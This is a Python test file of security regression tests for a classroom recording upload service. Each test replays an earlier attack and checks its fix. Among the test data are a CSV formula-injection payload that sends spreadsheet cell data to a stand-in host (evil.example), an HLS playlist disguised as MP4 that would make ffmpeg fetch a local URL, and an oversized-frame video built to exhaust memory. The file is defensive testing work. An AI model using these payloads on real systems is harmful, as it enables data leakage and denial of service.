"""Issue 23, the recorded-session items (6, 8-14) as the attacker tried them: each test does
what the attack did and fails without its fix. In process (TestClient, SQLite; recordings on,
no browser copy), on small synthetic clips made with ffmpeg (what is tested is the upload,
check and job bookkeeping, not recognition: test_recordings.py runs real clips)."""

from __future__ import annotations

import os
import subprocess
import threading
import uuid
from collections.abc import Iterator
from datetime import timedelta
from pathlib import Path
from typing import Any

import pytest
from fastapi.testclient import TestClient
from sqlalchemy import select

from cloud_sync.aggregator import config as aggregator_config
from cloud_sync.aggregator.app import create_app
from cloud_sync.aggregator.config import AggregatorSettings
from cloud_sync.aggregator.console import accounts
from cloud_sync.aggregator.db.models import EventRow, Recording
from cloud_sync.aggregator.services import media, recording_job
from cloud_sync.aggregator.services import recordings as svc
from cloud_sync.aggregator.services.common import utcnow
from cloud_sync.aggregator.services.retention import purge
from cloud_sync.protocol import Event
from tests.conftest import IN_CI, require

from .conftest import World
from .console_helpers import csrf_of, login

PW = "correct horse battery"
MIB = 1024 * 1024


@pytest.fixture
def db_url(tmp_path: Path) -> str:
    return f"sqlite:///{tmp_path / 'aggregator.db'}"


@pytest.fixture
def settings(db_url: str, tmp_path: Path) -> AggregatorSettings:
    return aggregator_config.load(
        None, database_url=db_url, data_dir=tmp_path / "data", rate_limit_per_min=100000,
        recordings_enabled=True, recording_transcode=False)


def ffmpeg(*args: str) -> None:
    require(subprocess.run(["which", "ffmpeg"], capture_output=True).returncode == 0,
            "ffmpeg not installed (scripts/ensure-system-deps.sh test installs it)")
    done = subprocess.run(["ffmpeg", "-nostdin", "-y", "-v", "error", *args],
                          capture_output=True, timeout=120, check=False)
    assert done.returncode == 0, done.stderr.decode()


@pytest.fixture(scope="module")
def clip(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Two seconds of a 64x48 test pattern (H.264 MP4): a recording that passes the check."""
    path = tmp_path_factory.mktemp("clip") / "lesson.mp4"
    ffmpeg("-f", "lavfi", "-i", "testsrc=s=64x48:d=2:r=5", "-c:v", "libx264", "-preset",
           "ultrafast", "-pix_fmt", "yuv420p", str(path))
    return path


def users(world: World) -> None:
    ctx = world.client.app.state.ctx  # type: ignore[attr-defined]
    with ctx.sessions() as session:
        accounts.add_user(session, "office", "admin", PW)
        accounts.add_user(session, "lee", "teacher", PW, ["CS101"])  # LAB-301
        accounts.add_user(session, "kim", "teacher", PW, ["MA201"])  # LAB-301 too


def announce(client: TestClient, headers: dict[str, str], size: int, room: str = "LAB-301",
             course: str = "CS101", name: str = "lesson.mp4", **extra: Any) -> Any:
    return client.post("/api/v1/recordings", headers=headers, json={
        "room_id": room, "course_id": course, "starts_at": "2026-11-16T09:00:00+00:00",
        "filename": name, "size_bytes": size, **extra})


def put(client: TestClient, headers: dict[str, str], rec_id: str, offset: int,
        data: bytes, console: bool = False) -> Any:
    path = f"/recordings/{rec_id}/content" if console else f"/api/v1/recordings/{rec_id}/content"
    return client.put(path, headers={**headers, "Upload-Offset": str(offset)}, content=data)


def upload(client: TestClient, headers: dict[str, str], data: bytes, **kw: Any) -> Any:
    r = announce(client, headers, len(data), **kw)
    assert r.status_code == 201, r.text
    return r.json()["id"], put(client, headers, r.json()["id"], 0, data)


# --- 6. filling the disk -------------------------------------------------------------------------

@pytest.fixture
def small_disk(tmp_path: Path) -> Iterator[Path]:
    """A 64 MiB tmpfs of its own (the recordings' file system), unmounted at the end."""
    path = tmp_path / "disk"
    path.mkdir()
    done = subprocess.run(["mount", "-t", "tmpfs", "-o", "size=64m", "tmpfs", str(path)],
                          capture_output=True, text=True, check=False)
    if done.returncode != 0:
        reason = f"cannot mount a tmpfs (needs root): {done.stderr.strip()}"
        if IN_CI:
            pytest.fail(reason)
        pytest.skip(reason)
    try:
        yield path
    finally:
        subprocess.run(["umount", "-l", str(path)], check=False)


def test_uploads_cannot_fill_the_disk(settings: AggregatorSettings, small_disk: Path,
                                      clip: Path) -> None:
    """The attack: 30 uploads of 8 GiB each were accepted with 67 GB free. Now: a quota per
    uploader and a free-space check at announce (413, 507), a free-space check while the bytes
    arrive (507, what arrived is kept), and abandoned uploads expire in hours."""
    from cloud_sync.aggregator.services.devices import create_admin_token

    settings = settings.model_copy(update={
        "recordings_dir": small_disk, "min_free_disk_mb": 8,
        "recording_quota_bytes": 30 * MIB, "recording_upload_expire_hours": 2.0})
    with TestClient(create_app(settings)) as c:
        ctx = c.app.state.ctx  # type: ignore[attr-defined]
        tokens = []
        with ctx.sessions() as session:
            for name in ("office-script", "teacher-a", "teacher-b"):
                tokens.append({"Authorization":
                               f"Bearer {create_admin_token(session, name)[1]}"})
        admin, other, third = tokens
        assert c.post("/api/v1/rooms", json={"id": "LAB-301", "site": "x"},
                      headers=admin).status_code == 201
        assert c.post("/api/v1/courses", json={"id": "CS101", "name": "CS"},
                      headers=admin).status_code == 201
        # the attack's size: refused at announce, nothing reserved
        r = announce(c, admin, 8 * 1024**3)
        assert r.status_code == 413 and "quota" in r.json()["detail"], r.text
        # within a larger quota, but not on the disk (64 MiB, 8 kept free)
        ctx.settings = settings.model_copy(update={"recording_quota_bytes": 10 * 1024**3})
        r = announce(c, admin, 60 * MIB)
        assert r.status_code == 507 and "disk" in r.json()["detail"], r.text
        ctx.settings = settings
        # two of 20 MiB: the second is over the uploader's 30 MiB quota
        first = announce(c, admin, 20 * MIB)
        assert first.status_code == 201, first.text
        r = announce(c, admin, 20 * MIB)
        assert r.status_code == 413 and "quota" in r.json()["detail"]
        # others: the disk less what announced uploads still need (20 + 25) and the 8 kept
        # free has room for 25, then not for 15
        assert announce(c, other, 25 * MIB).status_code == 201
        r = announce(c, third, 15 * MIB)
        assert r.status_code == 507, r.text
        # something else fills the disk: the next chunk is refused, what arrived stays
        rec_id = first.json()["id"]
        assert put(c, admin, rec_id, 0, b"\0" * MIB).status_code == 200
        filler = small_disk / "filler"
        filler.write_bytes(b"\1" * 55 * MIB)  # 8 MiB left: no 4 MiB chunk fits
        r = put(c, admin, rec_id, MIB, b"\0" * (4 * MIB))
        assert r.status_code == 507 and "full" in r.json()["detail"], r.text
        assert c.get(f"/api/v1/recordings/{rec_id}",
                     headers=admin).json()["received_bytes"] == MIB
        filler.unlink()
        # abandoned: nothing for longer than recording_upload_expire_hours; the hourly purge
        with ctx.sessions() as session:
            session.get(Recording, rec_id).updated_at = utcnow() - timedelta(hours=3)
            session.commit()
            counts = purge(session, settings)
        assert counts["abandoned_uploads"] == 1
        got = c.get(f"/api/v1/recordings/{rec_id}", headers=admin).json()
        assert got["state"] == "rejected" and "abandoned" in got["error"]
        assert not (small_disk / rec_id).exists()
        # its 20 MiB no longer count against the quota
        assert announce(c, admin, 20 * MIB).status_code == 201, "the quota was not freed"


# --- 8. frames too large ------------------------------------------------------------------------

def test_frames_larger_than_4k_are_refused_at_the_check(world: World, tmp_path: Path) -> None:
    """The attack: a small MKV of 16000x16000 PNG frames passed the check; the job then used
    3 GB and the transcode 6.6 GB. Here 4608x4608 frames (over 4096 px a side): refused by
    the check with the size, before any job."""
    big = tmp_path / "huge.mkv"
    ffmpeg("-f", "lavfi", "-i", "color=c=black:s=4608x4608:d=2:r=1", "-c:v", "png", str(big))
    assert big.stat().st_size < 2 * MIB
    _, r = upload(world.client, world.admin, big.read_bytes(), name="huge.mkv")
    assert r.status_code == 422, r.text
    assert "4608x4608" in r.json()["detail"] and "4096" in r.json()["detail"]
    # the pixel rate too (4K at 60 fps is the most): a probe's figures
    fast = media.Probe("matroska", 2.0, 3840, 2160, 120.0, "h264", False)
    with pytest.raises(media.MediaError, match="Mpx/s"):
        media.check_frames(fast)
    media.check_frames(media.Probe("matroska", 2.0, 3840, 2160, 60.0, "h264", False))


def test_ffmpeg_runs_under_a_memory_limit(clip: Path) -> None:
    """Every ffprobe/ffmpeg child has an address-space limit: with 64 MiB nothing can run
    (the same clip passes with the default)."""
    media.check(clip, 1.0, 60.0)
    with pytest.raises(media.MediaError):
        media.check(clip, 1.0, 60.0, memory_mb=64)


# --- 9. a check interrupted by a crash ----------------------------------------------------------

def test_a_check_interrupted_by_a_crash_is_recovered_at_start(settings: AggregatorSettings,
                                                              clip: Path) -> None:
    """The attack: a recording stayed `checking` forever after the server died during its
    check (every PUT then answered 409). A new start checks it again: a good file becomes
    ready with a job, one whose file is gone is rejected with the reason."""
    from cloud_sync.aggregator.services.devices import create_admin_token

    data = clip.read_bytes()
    with TestClient(create_app(settings)) as c:
        ctx = c.app.state.ctx  # type: ignore[attr-defined]
        with ctx.sessions() as session:
            _, token = create_admin_token(session, "t")
        admin = {"Authorization": f"Bearer {token}"}
        c.post("/api/v1/rooms", json={"id": "LAB-301", "site": "x"}, headers=admin)
        c.post("/api/v1/courses", json={"id": "CS101", "name": "CS"}, headers=admin)
        ids = []
        for _ in range(2):
            r = announce(c, admin, len(data))
            ids.append(r.json()["id"])
            assert put(c, admin, ids[-1], 0, data[:-1]).status_code == 200
    good, gone = ids
    # what the crash left: every byte on disk, the state `checking`, an hour ago
    with open(svc.folder(settings, good) / "original.mp4", "r+b") as f:
        f.seek(len(data) - 1)
        f.write(data[-1:])
    svc.delete_files(settings, gone)
    from cloud_sync.aggregator.db.session import make_engine, make_session_factory

    engine = make_engine(aggregator_config.database_url(settings))
    with make_session_factory(engine)() as session:
        for rec_id in ids:
            rec = session.get(Recording, rec_id)
            rec.state, rec.received_bytes = "checking", len(data)
            rec.updated_at = utcnow() - timedelta(hours=1)
        session.commit()
    engine.dispose()
    with TestClient(create_app(settings)) as c:  # the restart
        from tests.support.harness import wait_until

        def states() -> dict[str, Any]:
            return {i: c.get(f"/api/v1/recordings/{i}", headers=admin).json() for i in ids}

        wait_until(lambda: all(s["state"] != "checking" for s in states().values()), 30,
                   "the interrupted checks to be redone")
        after = states()
    assert after[good]["state"] == "ready" and len(after[good]["jobs"]) == 1
    assert after[gone]["state"] == "rejected" and "gone" in after[gone]["error"]


# --- 10. a teacher's recording and another course's events ------------------------------------

def test_teacher_records_only_in_rooms_their_course_meets_in(world: World) -> None:
    """The attack: the console let a teacher pick any room (and a job replaced every
    `rec-<room>` event in its time window, other courses' recordings' included: below)."""
    users(world)
    c = world.client
    login(c, "lee", PW)  # CS101: LAB-301 only
    token = csrf_of(c.get("/recordings").text)
    form = {"csrf": token, "course_id": "CS101", "date": "2026-11-16", "start": "09:00",
            "filename": "a.mp4", "size_bytes": "1000"}
    r = c.post("/recordings/new", data={**form, "room_id": "LAB-302"})
    assert r.status_code == 403, r.text
    r = c.post("/recordings/new", data={**form, "room_id": "LAB-301",
                                        "instructor_id": "S005"})  # not in CS101
    unknown = c.post("/recordings/new", data={**form, "room_id": "LAB-301",
                                              "instructor_id": "NOSUCH"})
    assert r.status_code == unknown.status_code == 404
    assert r.text.replace("S005", "X") == unknown.text.replace("NOSUCH", "X")
    assert c.post("/recordings/new", data={**form, "room_id": "LAB-301"}).status_code == 201


def test_a_job_replaces_only_its_own_recordings_events(world: World) -> None:
    """Two recordings of the same room and hour (two courses): each job's events stay its
    own when the other's job runs, and a re-run replaces its own only."""
    c = world.client
    ctx = c.app.state.ctx  # type: ignore[attr-defined]
    start = world.at(0, 9)
    with ctx.sessions() as session:
        recs = [svc.create_upload(session, ctx.settings, svc.NewRecording(
            room_id="LAB-301", course_id=course, starts_at=start, filename="x.mp4",
            size_bytes=1000), "token:t") for course in ("CS101", "MA201")]
        end = start + timedelta(minutes=30)

        def occupancy(rec: Recording, count: int) -> list[Event]:
            return [Event(v=2, device_id="x", room_id="LAB-301", kind="occupancy",  # type: ignore[arg-type]
                          severity="info", message=f"{count} people",
                          at=start + timedelta(minutes=m),
                          data={"count": count, "faces": count, "turned_away": 0,
                                "capacity": 30, "free": 30 - count,
                                "occupied_share": round(count / 30, 3), "window_s": 10.0})
                    for m in (1, 2, 3)]

        recording_job._ensure_device(session, "LAB-301")
        assert recording_job.write_events(session, recs[0], occupancy(recs[0], 5), end) == 3
        assert recording_job.write_events(session, recs[1], occupancy(recs[1], 7), end) == 3
        # a re-run of the first replaces its own three, and only those
        assert recording_job.write_events(session, recs[0], occupancy(recs[0], 6), end) == 3
        counts = sorted(e.data["count"] for e in session.scalars(select(EventRow)))
    assert counts == [6, 6, 6, 7, 7, 7]


# --- 11. a device named rec-... -------------------------------------------------------------------

def test_recording_device_ids_are_reserved(world: World, tmp_path: Path) -> None:
    """The attack: `POST /api/v1/devices {"id": "rec-lobby"}` was 201, and the device was
    hidden from the console (which takes rec- devices for recordings')."""
    for device_id in ("rec-lobby", "REC-LAB-301"):
        r = world.client.post("/api/v1/devices", headers=world.admin,
                              json={"id": device_id, "room_id": "LAB-301"})
        assert r.status_code == 422 and "reserved" in r.text, r.text
    users(world)
    login(world.client, "office", PW)
    token = csrf_of(world.client.get("/devices").text)
    r = world.client.post("/devices", data={"csrf": token, "room_id": "LAB-301",
                                            "device_id": "rec-lobby"})
    assert r.status_code in (400, 422) and "reserved" in r.text
    # the recording job still makes its own
    ctx = world.client.app.state.ctx  # type: ignore[attr-defined]
    with ctx.sessions() as session:
        assert recording_job._ensure_device(session, "LAB-301") == "rec-LAB-301"
        from cloud_sync.aggregator.mqtt_acl import registered_devices

        assert "rec-LAB-301" not in {d for _, _, d in registered_devices(session)}


# --- 12. two identical last chunks -------------------------------------------------------------

def test_two_identical_last_chunks_never_answer_database_is_locked(
        world: World, clip: Path) -> None:
    """The attack: the same last chunk twice at once answered 503 "database is locked" in 3
    of 6 runs (a read transaction turned into a write one after another connection's commit).
    Deterministically: the session that read the recording before another commit finishes
    the upload; and six races: one 201, one 409, never a 5xx."""
    c, admin = world.client, world.admin
    data = clip.read_bytes()
    ctx = c.app.state.ctx  # type: ignore[attr-defined]
    r = announce(c, admin, len(data))
    rec_id = r.json()["id"]
    assert put(c, admin, rec_id, 0, data[:-1]).status_code == 200
    assert put(c, admin, rec_id, len(data) - 1, data[-1:]).status_code in (200, 201)
    r = announce(c, admin, len(data))
    rec_id = r.json()["id"]
    with open(svc.folder(ctx.settings, rec_id) / "original.mp4", "r+b") as f:
        f.write(data)
    from cloud_sync.aggregator.db.session import begin_write

    with ctx.sessions() as a, ctx.sessions() as b:
        svc.advance(a, rec_id, 0, len(data))  # it ends reading the row: a's snapshot
        begin_write(b)  # another connection commits after that snapshot
        b.get(Recording, rec_id).updated_at = utcnow()
        b.commit()
        job = svc.finish_upload(a, ctx.settings, rec_id, "token:t")
    assert job.recording_id == rec_id
    for _ in range(6):
        r = announce(c, admin, len(data))
        rec_id = r.json()["id"]
        assert put(c, admin, rec_id, 0, data[:-1]).status_code == 200
        codes: list[int] = []

        def last(rec_id: str = rec_id, codes: list[int] = codes) -> None:
            other = TestClient(c.app)  # its own portal: the two requests overlap
            codes.append(put(other, admin, rec_id, len(data) - 1, data[-1:]).status_code)

        threads = [threading.Thread(target=last) for _ in range(2)]
        for t in threads:
            t.start()
        for t in threads:
            t.join()
        assert sorted(codes) == [201, 409], codes


# --- 13. what the check tells, what it parses, what a spreadsheet runs, who is asked first ----

def test_errors_carry_no_server_path_and_playlists_are_not_parsed(world: World,
                                                                  tmp_path: Path) -> None:
    c, admin = world.client, world.admin
    ctx = c.app.state.ctx  # type: ignore[attr-defined]
    _, r = upload(c, admin, os.urandom(20_000))
    assert r.status_code == 422
    detail = r.json()["detail"]
    assert str(ctx.settings.data_dir) not in detail and "/" not in detail, detail
    # an HLS playlist named .mp4 (it would make ffmpeg fetch its segments): not parsed at all
    playlist = (b"#EXTM3U\n#EXT-X-TARGETDURATION:10\n#EXTINF:10,\n"
                b"http://127.0.0.1:9/segment.ts\n#EXT-X-ENDLIST\n")
    _, r = upload(c, admin, playlist)
    assert r.status_code == 422 and "not an MP4, MOV or MKV file" in r.json()["detail"], r.text
    # a job's error shown to the uploader: the path is gone from it too
    assert media.clean(f"internal error: No such file: '{ctx.settings.data_dir}/x/y.mp4'") \
        == "internal error: No such file: 'y.mp4'"


def test_csv_cells_that_look_like_formulas_are_text(world: World) -> None:
    """The attack: `=HYPERLINK(...)` as a student's name reached day.csv unchanged."""
    c, admin = world.client, world.admin
    name = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    assert c.patch("/api/v1/students/S001", json={"name": name},
                   headers=admin).status_code == 200
    day = world.monday.date().isoformat()
    text = c.get(f"/api/v1/attendance/course/CS101?date={day}&format=csv", headers=admin).text
    assert "'=HYPERLINK" in text and ',"=HYPERLINK' not in text and ",=HYPERLINK" not in text
    users(world)
    login(c, "lee", PW)
    assert "'=HYPERLINK" in c.get(f"/courses/CS101/day.csv?date={day}").text


def test_access_is_checked_before_the_upload_state(world: World, clip: Path) -> None:
    """The attack: a teacher's PUT to another course's recording answered 409 with its state
    and offset: the access check came after the state checks."""
    users(world)
    c = world.client
    rec_id, r = upload(c, world.admin, clip.read_bytes())  # CS101's, complete (ready)
    assert r.status_code == 201
    login(c, "kim", PW)  # MA201 only
    token = csrf_of(c.get("/recordings").text)
    r = put(c, {"X-CSRF-Token": token, "Accept": "application/json"}, rec_id, 0, b"x",
            console=True)
    unknown = put(c, {"X-CSRF-Token": token, "Accept": "application/json"},
                  uuid.uuid4().hex, 0, b"x", console=True)
    assert r.status_code == unknown.status_code == 404, (r.text, unknown.text)
    other_id = unknown.request.url.path.split("/")[2]
    assert r.text.replace(rec_id, "X") == unknown.text.replace(other_id, "X")


# --- 14. the OpenAPI description ---------------------------------------------------------------

def test_openapi_documents_csv_answers_and_this_servers_largest_recording(
        world: World) -> None:
    spec = world.client.get("/openapi.json").json()
    for path in ("/api/v1/attendance/course/{course_id}",
                 "/api/v1/attendance/student/{student_id}"):
        assert "text/csv" in spec["paths"][path]["get"]["responses"]["200"]["content"]
    size = spec["components"]["schemas"]["RecordingIn"]["properties"]["size_bytes"]
    settings = world.client.app.state.ctx.settings  # type: ignore[attr-defined]
    assert size["maximum"] == settings.recording_max_bytes
    r = announce(world.client, world.admin, settings.recording_max_bytes + 1)
    assert r.status_code == 413  # beyond the documented maximum: declared 413
    assert "413" in spec["paths"]["/api/v1/recordings"]["post"]["responses"]
